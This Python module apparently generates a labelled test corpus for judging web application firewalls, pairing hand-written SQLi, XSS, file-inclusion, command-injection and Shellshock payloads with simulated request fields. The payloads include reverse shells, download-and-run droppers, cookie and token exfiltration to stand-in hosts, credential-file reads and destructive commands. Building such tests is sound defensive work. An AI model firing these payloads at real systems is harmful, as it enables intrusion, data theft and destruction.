"""Injection attacks against application code: SQLi, XSS, LFI, RFI and command/code injection.

One function per category; each returns records (label and id are added by generate.py). Payloads are written
here by hand, from the attack classes that public payload lists, CRS regression tests and vulnerability
write-ups describe; no list is copied. Hosts in payloads use documentation ranges (198.51.100.0/24,
203.0.113.0/24) and `evil.example`. Attacks use GET and POST only, so a WAF that rejects other methods by
policy (CRS's default allowed_methods) gets no credit for it here.
"""

from .common import (
    Wire,
    client_headers,
    page_headers,
    record,
    replace_header,
    rng_for,
)
from .slots import JsonEsc, cookie, form_field, header, json_field, multipart_field, path_param, place, query

# ---------------------------------------------------------------------------------------------------- SQLi

SQLI_STRING = [
    ("' OR '1'='1", "tautology in a quoted string"),
    ("' OR 1=1-- -", "tautology, MySQL comment"),
    ("admin'--", "comment out the password check"),
    ("admin' #", "comment out the password check with #"),
    ("' or ''='", "empty-string tautology"),
    ("') OR ('1'='1", "tautology closing a parenthesis"),
    ('" OR "1"="1', "double-quoted tautology"),
    ("' OR 'x'='x' /*", "tautology, unterminated C comment"),
    ("' OR 2>1 -- ", "inequality tautology"),
    ("1' AnD 'a' LIKE 'a", "LIKE tautology, mixed case"),
    ("' or true--", "boolean-literal tautology"),
    ("' UNION SELECT NULL,NULL,NULL-- -", "UNION column-count probe"),
    ("' UNION SELECT username, password FROM users-- -", "UNION dump of a users table"),
    ("' UNION ALL SELECT table_name,NULL FROM information_schema.tables-- -", "UNION schema enumeration"),
    ("' UNION SELECT load_file('/etc/passwd'),2-- -", "UNION file read with load_file"),
    ("' UNION SELECT name FROM sqlite_master WHERE type='table'--", "UNION SQLite schema"),
    ("x' AND SLEEP(5)-- -", "time-based blind, MySQL SLEEP"),
    ("'; WAITFOR DELAY '0:0:5'--", "time-based blind, stacked MSSQL WAITFOR"),
    ("'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'", "time-based blind, PostgreSQL CASE/pg_sleep"),
    ("' OR IF(1=1,SLEEP(5),0)-- -", "conditional sleep"),
    ("' AND (SELECT COUNT(*) FROM users) > 0 --", "boolean blind table probe"),
    ("x' AND substring(password,1,1)='a", "boolean blind char-by-char extraction"),
    ("' AND 1=CONVERT(int,(SELECT @@version))--", "error-based, MSSQL CONVERT"),
    ("' AND updatexml(1,concat(0x7e,database()),1)-- -", "error-based, MySQL updatexml"),
    ("'; INSERT INTO users (username,password,role) VALUES ('eve','x','admin');--", "stacked INSERT of an admin user"),
    ("'; EXEC xp_cmdshell('whoami');--", "stacked xp_cmdshell"),
    ("'; DROP TABLE sessions;--", "stacked DROP TABLE"),
    ("'/**/UnIoN/**/SeLeCt/**/1,2,3-- -", "UNION with inline comments and mixed case"),
    ("'/*!50000union*//*!50000select*/1,2-- -", "UNION in MySQL versioned comments"),
    ("' oR/**/1=1#", "tautology, comment as whitespace"),
    ("'||'1'='1", "concatenation tautology"),
    ("' AND 1=0 UNION SELECT name, pass FROM members WHERE '1'='1", "UNION with balanced quotes, no comment"),
    ("' UNION SELECT 0x61646d696e,0x70617373-- -", "UNION with hex literals"),
    ("'; DECLARE @q varchar(99); SET @q='\\\\oob.evil.example\\a'; EXEC master.dbo.xp_dirtree @q;--", "out-of-band exfiltration via xp_dirtree"),
    ("x' AND extractvalue(rand(),concat(0x3a,(SELECT user())))-- -", "error-based extractvalue"),
    ('" or ""="', "double-quoted empty tautology"),
    ("' HAVING 1=1--", "HAVING error probe"),
    ("'; SELECT pg_sleep(5);--", "stacked pg_sleep"),
    ("' AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1))>64--", "boolean blind, Oracle v$version"),
    ("';shutdown--", "stacked SHUTDOWN"),
    (Wire("%27%20OR%20%271%27%3D%271"), "tautology, every character percent-encoded"),
    (Wire("%2527%2520OR%25201%253D1--"), "tautology, double percent-encoded"),
    (Wire("%u0027%u0020OR%u00201%3D1--"), "tautology, IIS %u encoding"),
    (Wire("x%27%09OR%09%271%27%3D%271"), "tautology with tab separators"),
    (Wire("%27+uNiOn+aLl+sElEcT+null,concat(user,0x3a,password)+from+mysql.user--+"), "UNION with + as space, mixed case"),
    (Wire("x%27%0aunion%0aselect%0a1,2,3--%0a"), "UNION with newline separators"),
    (JsonEsc("' OR '1'='1' -- "), "tautology written with JSON \\u escapes"),
    (JsonEsc("' UNION SELECT password FROM users--"), "UNION written with JSON \\u escapes"),
]

SQLI_NUMERIC = [
    ("1 OR 1=1", "numeric tautology"),
    ("1 AND 1=2", "numeric boolean probe (false branch)"),
    ("-1 UNION SELECT username, password FROM users", "numeric UNION dump"),
    ("0 union select 1,@@version,3", "numeric UNION version disclosure"),
    ("1) UNION SELECT user(),database()#", "UNION after closing a parenthesis"),
    ("-5 UNION SELECT 1,group_concat(column_name) FROM information_schema.columns WHERE table_name='users'", "UNION column enumeration"),
    ("1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "time-based nested SLEEP"),
    ("1 AND BENCHMARK(5000000,MD5(1))", "time-based BENCHMARK"),
    ("1) AND 4912=DBMS_PIPE.RECEIVE_MESSAGE(CHR(76),5) AND (3245=3245", "time-based Oracle DBMS_PIPE (sqlmap shape)"),
    ("1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64", "boolean blind ASCII/SUBSTRING"),
    ("1 AND EXISTS(SELECT * FROM admin)", "boolean blind table probe"),
    ("1 AND extractvalue(1,concat(0x7e,(SELECT version())))", "error-based extractvalue"),
    ("1 AND 1=CAST((SELECT current_user) AS int)", "error-based CAST, PostgreSQL"),
    ("1; DROP TABLE users--", "stacked DROP TABLE"),
    ("1; UPDATE accounts SET balance=1000000 WHERE id=7--", "stacked UPDATE"),
    ("1; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.50/x|sh'--", "stacked COPY TO PROGRAM (PostgreSQL command execution)"),
    ("1 ORDER BY 10", "ORDER BY column-count probe"),
    ("1 OR 1=1 UNION SELECT CHAR(97,100,109,105,110)", "UNION with CHAR()"),
    ("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "boolean RLIKE (sqlmap shape)"),
    ("1 or sleep(5)#", "short time-based"),
    ("1 AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.evil.example\\\\a')))", "out-of-band DNS exfiltration, MySQL"),
    ("(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select(sleep(6)))v)+\"*/", "context-agnostic sleep polyglot"),
    ("1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,VERSION())),1)", "PROCEDURE ANALYSE error-based"),
    ("1;SELECT * FROM pg_shadow--", "stacked read of pg_shadow"),
    ("1/**/AND/**/1=1", "boolean probe, comments as whitespace"),
    ("1 and 1=2 union select 1,table_name from all_tables--", "UNION Oracle all_tables"),
    (Wire("1%20UNION%20SELECT%20NULL%2CNULL--"), "UNION, percent-encoded"),
    (Wire("-1%2520UNION%2520SELECT%25201%252C2%252C3"), "UNION, double percent-encoded"),
    (Wire("1%0bOR%0b1=1"), "tautology with vertical-tab separators"),
]

SQLI_ORDER = [
    ("(CASE WHEN (SELECT 1)=1 THEN price ELSE name END)", "ORDER BY injection with CASE"),
    ("name,(select 1 from dual where 1=1 and sleep(5))", "ORDER BY injection, time-based"),
    ("id DESC; DROP TABLE orders", "ORDER BY injection, stacked DROP"),
    ("price,extractvalue(1,concat(0x7e,user()))", "ORDER BY injection, error-based"),
    ("(SELECT 1 FROM pg_sleep(5))", "ORDER BY injection, PostgreSQL sleep"),
    ("IF(1=1,name,price)", "ORDER BY boolean oracle via IF"),
    ("created_at,(SELECT CASE WHEN (SUBSTR(USER,1,1)='S') THEN 1 ELSE 1/0 END FROM dual)", "ORDER BY Oracle divide-by-zero oracle"),
    ("1,(SELECT GROUP_CONCAT(username) FROM users)", "ORDER BY subquery exfiltration"),
]


def sqli():
    rng = rng_for("sqli")
    login = {"username": "", "password": "hunter2!Rx"}
    string_slots = [
        query("/search", "q", [("page", "1")]),
        query("/api/v1/products", "category", [("limit", "20"), ("offset", "40")]),
        query("/api/v1/users", "email", [("include", "profile")]),
        query("/api/v2/stores/search", "city", [("radius_km", "25")]),
        json_field("/api/v1/auth/login", login, "username"),
        json_field("/api/v2/orders/lookup", {"orderRef": "", "email": "a.moreau@example.fr"}, "orderRef"),
        json_field("/api/v1/coupons/validate", {"code": "", "cartId": "c_81723"}, "code"),
        form_field("/login", [("username", ""), ("password", "Winter2024!"), ("remember", "on")], "username"),
        form_field("/account/password-reset", [("email", ""), ("csrf_token", "f8a1c2d9e7b34a55")], "email"),
        cookie("/api/v1/cart", "tracking_id"),
        cookie("/account", "remember_user"),
        header("/api/v1/products", "X-Forwarded-For", prefix="203.0.113.9"),
        header("/", "Referer", prefix="https://www.example.com/search?q=lamp"),
        path_param("/api/v1/users/by-name"),
    ]
    numeric_slots = [
        query("/api/v1/products", "id"),
        query("/catalog/item", "item_id", [("lang", "en")]),
        query("/api/v1/orders", "page", [("per_page", "25")]),
        query("/news", "article", [("utm_source", "newsletter")]),
        json_field("/api/v1/cart/items", {"productId": "", "qty": 1}, "productId"),
        json_field("/api/v1/reports/run", {"reportId": "", "format": "csv"}, "reportId"),
        form_field("/cart/update", [("line_id", ""), ("quantity", "2")], "line_id"),
        cookie("/dashboard", "user_id"),
        path_param("/api/v1/products"),
        path_param("/api/v2/invoices", "/pdf"),
    ]
    order_slots = [
        query("/api/v1/products", "sort", [("dir", "asc")]),
        query("/api/v2/reports", "orderBy", [("from", "2024-10-01")]),
        json_field("/api/v1/search", {"query": "desk lamp", "sort": ""}, "sort"),
        form_field("/admin/users", [("filter", "active"), ("order", "")], "order"),
    ]
    return (
        place(rng, SQLI_STRING, string_slots, 62)
        + place(rng, SQLI_NUMERIC, numeric_slots, 42)
        + place(rng, SQLI_ORDER, order_slots, 12)
    )


# ---------------------------------------------------------------------------------------------------- XSS

XSS_HTML = [
    ("<script>alert(1)</script>", "script tag"),
    ("<script>alert(document.cookie)</script>", "script tag reading cookies"),
    ('"><script>alert(String.fromCharCode(88,83,83))</script>', "attribute breakout into a script tag"),
    ("<script src=https://evil.example/x.js></script>", "external script"),
    ("<img src=x onerror=alert(1)>", "img onerror"),
    ("<img src=\"x\" onerror=\"fetch('https://evil.example/c?'+document.cookie)\">", "img onerror exfiltrating cookies"),
    ("<svg onload=alert(1)>", "svg onload"),
    ("<svg/onload=alert(document.domain)>", "svg onload, slash separator"),
    ("<body onload=alert('XSS')>", "body onload"),
    ('<iframe src="javascript:alert(1)"></iframe>', "iframe with javascript: src"),
    ('<a href="javascript:alert(1)">click</a>', "anchor with javascript: href"),
    ("<details open ontoggle=alert(1)>", "details ontoggle"),
    ("<input autofocus onfocus=alert(1)>", "autofocus onfocus"),
    ('<video><source onerror="alert(1)">', "video source onerror"),
    ("<marquee onstart=alert(1)>", "marquee onstart"),
    ("</script><script>alert(1)</script>", "closing an inline script block"),
    ("<ScRiPt>prompt(1)</sCrIpT>", "script tag, mixed case"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "nested tag to survive one-pass stripping"),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "svg animate onbegin"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mutation XSS through MathML"),
    ('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', "object with base64 data: URL"),
    ('<embed src="javascript:alert(1)">', "embed with javascript: src"),
    ('<form action="javascript:alert(1)"><input type=submit>', "form with javascript: action"),
    ("<button formaction=javascript:alert(1)>Go</button>", "button formaction"),
    ("<div style=\"background:url(javascript:alert(1))\">", "CSS url(javascript:)"),
    ("<style>@import 'https://evil.example/x.css';</style>", "style @import of a remote sheet"),
    ('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "meta refresh to javascript:"),
    ("<img src=x onerror=eval(atob('YWxlcnQoMSk='))>", "onerror eval of base64"),
    ("<svg><script>alert&#40;1&#41;</script>", "svg script with entity-encoded parentheses"),
    ("<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>", "onerror handler written in decimal entities"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "anchor with data: URL"),
    ("<x onclick=alert(1)>click me", "custom element with onclick"),
    ('" onmouseover="alert(1)', "attribute injection onmouseover"),
    ("' autofocus onfocus='alert(1)", "single-quoted attribute injection"),
    ("{{constructor.constructor('alert(1)')()}}", "AngularJS client-side template injection"),
    ("<img src=x:alert(alt) onerror=eval(src) alt=0>", "onerror eval(src)"),
    ('<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>', "svg xlink:href javascript:"),
    ('<base href="https://evil.example/">', "base tag hijacking relative URLs"),
    ('<script>new Image().src="https://evil.example/c?c="+document.cookie</script>', "cookie theft beacon"),
    ("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "iframe srcdoc with entity-encoded script"),
    ("<img/src/onerror=alert(1)>", "img with slashes instead of spaces"),
    ("<svg/onload=self[`al`+`ert`](1)>", "svg onload, string-split alert"),
    ("<script>fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script>", "account data exfiltration"),
    ("<textarea autofocus onfocus=alert(1)>", "textarea onfocus"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "noscript parser differential"),
    ('"><img src=x onerror=alert(1)>', "attribute breakout into img onerror"),
    ("'-alert(1)-'", "breaking out of a JavaScript string"),
    ("\";alert(1);//", "ending a JavaScript string and statement"),
    (Wire("%3Cscript%3Ealert(1)%3C%2Fscript%3E"), "script tag, percent-encoded"),
    (Wire("%253Cscript%253Ealert(1)%253C%252Fscript%253E"), "script tag, double percent-encoded"),
    (Wire("%3Csvg%2Fonload%3Dalert%281%29%3E"), "svg onload, percent-encoded"),
    (Wire("%3Cimg%20src%3Dx%20onerror%3D%22alert%28document.cookie%29%22%3E"), "img onerror, percent-encoded"),
    (JsonEsc("<script>alert(1)</script>"), "script tag written with JSON \\u escapes"),
    (JsonEsc("<img src=x onerror=alert(1)>"), "img onerror written with JSON \\u escapes"),
]

XSS_URL = [
    ("javascript:alert(document.cookie)", "javascript: URL"),
    ("JaVaScRiPt:alert(1)", "javascript: URL, mixed case"),
    ("javascript://%0aalert(1)", "javascript: URL hiding code after a comment and newline"),
    ("java\tscript:alert(1)", "javascript: URL with an embedded tab"),
    ("data:text/html,<script>alert(1)</script>", "data: URL with a script"),
    ("javascript:fetch('https://evil.example/?'+localStorage.token)", "javascript: URL stealing a token"),
    (Wire("javascript%3Aalert%281%29"), "javascript: URL, percent-encoded"),
    ("vbscript:msgbox(1)", "vbscript: URL"),
]


def xss():
    rng = rng_for("xss")
    html_slots = [
        query("/search", "q"),
        query("/api/v1/products", "q", [("page", "2")]),
        query("/error", "message"),
        query("/api/v1/widgets/embed", "title", [("theme", "dark")]),
        query("/share", "text", [("url", "https://shop.example.com/p/42")]),
        json_field("/api/v1/comments", {"postId": 812, "body": ""}, "body"),
        json_field("/api/v1/profile", {"displayName": "", "timezone": "Europe/Berlin"}, "displayName"),
        json_field("/api/v2/tickets", {"subject": "Order issue", "message": "", "priority": "normal"}, "message"),
        form_field("/contact", [("name", "Sam Lee"), ("email", "sam@example.com"), ("message", "")], "message"),
        form_field("/guestbook", [("author", ""), ("text", "Lovely shop!")], "author"),
        multipart_field("/api/v1/uploads", [("caption", ""), ("album", "holiday-2024")], "caption"),
        cookie("/", "theme"),
        cookie("/dashboard", "last_search"),
        header("/", "Referer"),
        header("/api/v1/track", "User-Agent"),
        path_param("/search"),
        path_param("/u"),
    ]
    url_slots = [
        query("/login", "next"),
        query("/oauth/authorize", "redirect_uri", [("client_id", "web-app"), ("response_type", "code")]),
        query("/out", "url"),
        json_field("/api/v1/profile", {"website": "", "bio": "Coffee & code"}, "website"),
        form_field("/settings/links", [("label", "My site"), ("href", "")], "href"),
    ]
    return place(rng, XSS_HTML, html_slots, 80) + place(rng, XSS_URL, url_slots, 12)


# ---------------------------------------------------------------------------------------------------- LFI

LFI_VALUES = [
    ("../../../../etc/passwd", "relative traversal to /etc/passwd"),
    ("../../../../../../etc/shadow", "relative traversal to /etc/shadow"),
    ("....//....//....//etc/passwd", "traversal surviving one-pass '../' stripping"),
    ("/etc/passwd", "absolute path"),
    ("/proc/self/environ", "process environment (secrets, log-poisoning target)"),
    ("../../../../proc/self/environ", "traversal to /proc/self/environ"),
    ("/proc/self/cmdline", "process command line"),
    ("../../../../var/log/nginx/access.log", "web server log (log poisoning)"),
    ("..\\..\\..\\..\\windows\\win.ini", "Windows backslash traversal"),
    ("C:\\Windows\\System32\\drivers\\etc\\hosts", "Windows absolute path"),
    ("..\\..\\..\\boot.ini", "Windows boot.ini"),
    ("C:/inetpub/wwwroot/web.config", "IIS web.config"),
    ("../../../../../../root/.ssh/id_rsa", "SSH private key"),
    ("../../../.aws/credentials", "AWS credentials file"),
    ("file:///etc/passwd", "file: URL"),
    ("/var/www/html/../../../etc/passwd", "absolute path with traversal"),
    ("..///..///..///etc///passwd", "traversal with repeated slashes"),
    ("../../WEB-INF/web.xml", "Java web application descriptor"),
    ("....\\/....\\/....\\/etc/passwd", "mixed-separator traversal"),
    ("../../../../home/ubuntu/.bash_history", "shell history"),
    ("../../../../etc/group", "traversal to /etc/group"),
    ("/var/run/secrets/kubernetes.io/serviceaccount/token", "Kubernetes service account token"),
    ("../../../../usr/local/etc/php/php.ini", "php.ini"),
    ("/proc/self/fd/2", "process file descriptor"),
    (Wire("..%2f..%2f..%2f..%2fetc%2fpasswd"), "traversal with encoded slashes"),
    (Wire("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"), "traversal fully percent-encoded"),
    (Wire("%252e%252e%252f%252e%252e%252fetc%252fpasswd"), "traversal double percent-encoded"),
    (Wire("..%c0%af..%c0%af..%c0%afetc/passwd"), "traversal with overlong UTF-8 slash"),
    (Wire("/etc/passwd%00.jpg"), "null byte truncation"),
    (Wire("../../../../etc/passwd%00"), "traversal with trailing null byte"),
    (Wire("%5c..%5c..%5c..%5cwindows%5cwin.ini"), "Windows traversal, encoded backslashes"),
    (Wire("..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"), "Windows SAM hive"),
    (Wire(".%2e/.%2e/.%2e/.%2e/etc/passwd"), "half-encoded dot segments"),
    (Wire("..%252f..%252f..%252fetc%252fshadow"), "double-encoded slashes"),
]

LFI_PATHS = [
    ("/static/assets/img/icons/../../../../etc/passwd", "traversal in the URL path"),
    ("/assets/css/themes/dark/..%2f..%2f..%2f..%2fetc%2fpasswd", "traversal in the path with encoded slashes"),
    ("/download/a/b/c/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "traversal in the path, encoded dots"),
    ("/files/..;/..;/..;/etc/passwd", "Tomcat '..;' traversal"),
    ("/images/..%5c..%5c..%5cwindows%5cwin.ini", "Windows traversal in the path"),
    ("/page/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double-encoded traversal in the path"),
    ("/static/..%c0%af..%c0%af..%c0%afetc/passwd", "overlong UTF-8 traversal in the path"),
    ("/api/v1/files/....//....//....//etc/passwd", "'....//' traversal in the path"),
    ("/download/%2Fproc%2Fself%2Fenviron", "encoded absolute path in the path"),
    ("/docs/v2/guide/intro/../../../../proc/self/environ", "traversal to /proc/self/environ in the path"),
]


def lfi():
    rng = rng_for("lfi")
    slots = [
        query("/download", "file"),
        query("/api/v1/docs", "page", [("version", "2")]),
        query("/view", "template", [("id", "17")]),
        query("/api/v1/reports/export", "name", [("format", "pdf")]),
        query("/i18n/messages", "lang"),
        json_field("/api/v1/render", {"template": "", "data": {"name": "Ana", "total": 42.5}}, "template"),
        json_field("/api/v1/files/preview", {"path": "", "lines": 40}, "path"),
        form_field("/support/attach", [("ticket", "48213"), ("attachment", "")], "attachment"),
        cookie("/", "lang"),
        header("/api/v1/uploads/chunk", "X-File-Name"),
    ]
    out = place(rng, LFI_VALUES, slots, 52)
    for path, note in LFI_PATHS:
        out.append(record("GET", path, "", client_headers(rng), where="path", note=f"{note}; GET {path}"))
    return out


# ---------------------------------------------------------------------------------------------------- RFI

RFI_VALUES = [
    ("http://evil.example/shell.txt?", "remote include, trailing ? to cut the suffix"),
    ("https://203.0.113.66/c99.txt?", "remote include from an IP address"),
    ("http://198.51.100.7/r57.php", "remote include of a PHP web shell"),
    ("ftp://198.51.100.7/pub/shell.txt", "remote include over FTP"),
    ("ftps://files.evil.example/backdoor.txt", "remote include over FTPS"),
    ("php://filter/convert.base64-encode/resource=config.php", "php://filter source disclosure"),
    ("php://filter/read=string.rot13/resource=index.php", "php://filter rot13 source disclosure"),
    ("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+", "data:// wrapper carrying base64 PHP"),
    ("data:text/plain,<?php phpinfo(); ?>", "data: URL carrying PHP"),
    ("expect://id", "expect:// wrapper"),
    ("phar://uploads/avatar.jpg/shell.php", "phar:// wrapper on an uploaded file"),
    ("\\\\198.51.100.7\\share\\shell.php", "Windows UNC path to an SMB share"),
    ("HtTp://evil.example/x.txt?", "remote include, mixed-case scheme"),
    ("https://pastebin.com/raw/Xy12AbCd?", "remote include from a paste site"),
    ("//evil.example/shell.txt?", "protocol-relative remote include"),
    ("http://evil.example/shell.txt?&cmd=id", "remote include passing a command"),
    ("http://evil.example/inc/config.txt??", "remote include, double ?"),
    (Wire("zip://uploads/avatar.jpg%23shell.php"), "zip:// wrapper on an uploaded file"),
    (Wire("http://evil.example/shell.txt%00"), "remote include with null byte"),
    (Wire("http%3A%2F%2Fevil.example%2Fshell.txt%3F"), "remote include, percent-encoded"),
    (Wire("http%253A%252F%252Fevil.example%252Fshell.txt%253F"), "remote include, double percent-encoded"),
]


def rfi():
    rng = rng_for("rfi")
    slots = [
        query("/index.php", "page"),
        query("/", "include"),
        query("/modules.php", "mod", [("op", "view")]),
        query("/main.php", "template", [("lang", "en")]),
        query("/api/v1/templates/render", "template_url"),
        json_field("/api/v1/import", {"source": "", "type": "theme"}, "source"),
        form_field("/admin/plugins/install", [("plugin_url", ""), ("activate", "1")], "plugin_url"),
        cookie("/", "skin_path"),
    ]
    return place(rng, RFI_VALUES, slots, 42)


# ---------------------------------------------------------------------------------------------------- RCE

RCE_UNIX = [
    (";cat /etc/passwd", "command separator then cat /etc/passwd"),
    ("127.0.0.1; cat /etc/passwd", "ping target followed by a command"),
    ("| id", "pipe into id"),
    ("|| whoami", "OR-chained whoami"),
    ("&& uname -a", "AND-chained uname"),
    ("$(id)", "command substitution"),
    ("`id`", "backtick substitution"),
    ("$(curl -s http://evil.example/x.sh | sh)", "download and run a script"),
    ("; wget http://198.51.100.7/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot", "download, chmod and run a binary"),
    ("| nc 198.51.100.7 4444 -e /bin/sh", "netcat reverse shell"),
    ("; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "bash /dev/tcp reverse shell"),
    ("; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", "Python reverse shell"),
    ("; rm -rf /var/www/html/*", "destructive rm"),
    ("a;${IFS}cat${IFS}/etc/passwd", "$IFS instead of spaces"),
    (";c'a't /e't'c/pa's'swd", "quote-split command words"),
    (";/???/??t /???/p??s??", "glob-obfuscated cat /etc/passwd"),
    ("$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)", "base64-encoded command"),
    ("; curl http://198.51.100.7/$(whoami)", "exfiltration over HTTP"),
    ("; ping -c 10 127.0.0.1", "time-based blind probe with ping"),
    ("| sleep 10", "time-based blind probe with sleep"),
    ("; perl -e 'exec \"/bin/sh\"'", "Perl spawning a shell"),
    (";{cat,/etc/passwd}", "brace expansion without spaces"),
    ("; echo \"* * * * * root curl http://evil.example/x|sh\" >> /etc/crontab", "cron persistence"),
    ("; nslookup $(whoami).oob.evil.example", "DNS exfiltration"),
    ("; ls -la /", "directory listing after a separator"),
    ("$(sleep 5)", "time-based substitution"),
    ("'; id; echo '", "breaking out of single quotes"),
    ("x' && curl evil.example/s.sh|bash && '", "quoted download-and-run"),
    (";cat$IFS/etc/shadow", "$IFS before an absolute path"),
    ("; /bin/busybox wget http://198.51.100.7/mirai.arm7", "IoT botnet dropper"),
    (";cd /tmp; tftp -g -r x 198.51.100.7; sh x", "TFTP dropper"),
    ("`wget -qO- evil.example/i|sh`", "backticked download-and-run"),
    ("| /usr/bin/env", "environment dump"),
    (";echo${IFS}PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==|base64${IFS}-d>/var/www/html/s.php", "writing a web shell"),
    (";exec 5<>/dev/tcp/198.51.100.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done", "file-descriptor reverse shell"),
    (Wire("%0aid"), "newline-separated command, encoded"),
    (Wire("%3Bcat%20%2Fetc%2Fpasswd"), "separator and cat, percent-encoded"),
    (Wire("127.0.0.1%0a%0dwhoami"), "CRLF-separated command, encoded"),
]

RCE_WINDOWS = [
    ("& dir c:\\", "Windows dir of C:"),
    ("| type C:\\Windows\\win.ini", "Windows type of win.ini"),
    ("& net user hacker P@ss123 /add", "Windows add a user"),
    ("& powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"", "PowerShell download cradle"),
    ("powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell encoded command"),
    ("& certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe", "certutil download"),
    ("| cmd.exe /c whoami", "cmd.exe whoami"),
    ("& ping -n 10 127.0.0.1 &", "Windows time-based probe"),
    ("&& bitsadmin /transfer job http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", "bitsadmin download"),
    ("; Invoke-WebRequest -Uri http://198.51.100.7/x.exe -OutFile C:\\x.exe; Start-Process C:\\x.exe", "PowerShell Invoke-WebRequest and run"),
    ("| powershell Get-ChildItem Env:", "PowerShell environment dump"),
    ("& reg save HKLM\\SAM C:\\temp\\sam.save", "registry hive dump"),
]

CODE_INJECTION = [
    ("require('child_process').exec('id')", "Node.js code injection"),
    ("__import__('os').system('id')", "Python code injection"),
    ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "Jinja2 template injection to os.popen"),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", "Jinja2 template injection, class walk"),
    ("<%= system(\"id\") %>", "ERB template injection"),
    ("#{`id`}", "Ruby interpolation with backticks"),
]


def rce():
    rng = rng_for("rce")
    slots = [
        query("/api/v1/tools/ping", "host", [("count", "3")]),
        query("/api/v1/dns/lookup", "domain", [("type", "MX")]),
        query("/api/v1/convert", "filename", [("to", "pdf")]),
        query("/cgi-bin/status", "device"),
        json_field("/api/v1/diagnostics/traceroute", {"target": "", "maxHops": 20}, "target"),
        json_field("/api/v1/backups", {"name": "", "compress": True}, "name"),
        json_field("/api/v1/images/resize", {"file": "", "width": 320}, "file"),
        form_field("/admin/network", [("ip", ""), ("action", "ping")], "ip"),
        form_field("/tools/whois", [("domain", ""), ("submit", "Lookup")], "domain"),
        cookie("/", "device_name"),
    ]
    code_slots = [
        query("/api/v1/calc", "expr"),
        query("/greeting", "name"),
        json_field("/api/v1/templates/preview", {"template": "", "locale": "en"}, "template"),
        form_field("/feedback", [("name", ""), ("rating", "4")], "name"),
    ]
    out = place(rng, RCE_UNIX, slots, 48) + place(rng, RCE_WINDOWS, slots, 16) + place(rng, CODE_INJECTION, code_slots, 8)
    # Shellshock (CVE-2014-6271) arrives in headers that CGI scripts export as environment variables.
    shellshock = [
        ("User-Agent", '() { :; }; /bin/bash -c "cat /etc/passwd"', "/cgi-bin/status.cgi"),
        ("Referer", "() { :;}; echo; /usr/bin/id", "/cgi-bin/test.sh"),
        ("Cookie", "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "/cgi-bin/login.cgi"),
        ("User-Agent", "() { ignored;}; /bin/bash -c 'wget http://198.51.100.7/x -O /tmp/x'", "/"),
        ("X-Forwarded-For", "() { :;}; /bin/sleep 10", "/cgi-bin/index.cgi"),
    ]
    for name, value, path in shellshock:
        h = replace_header(page_headers(rng), name, value)
        out.append(record("GET", path, "", h, where=f"header:{name}", note=f"Shellshock function definition; header {name} on GET {path}"))
    return out


CATEGORIES = [
    ("sqli", sqli),
    ("xss", xss),
    ("lfi", lfi),
    ("rfi", rfi),
    ("rce", rce),
]
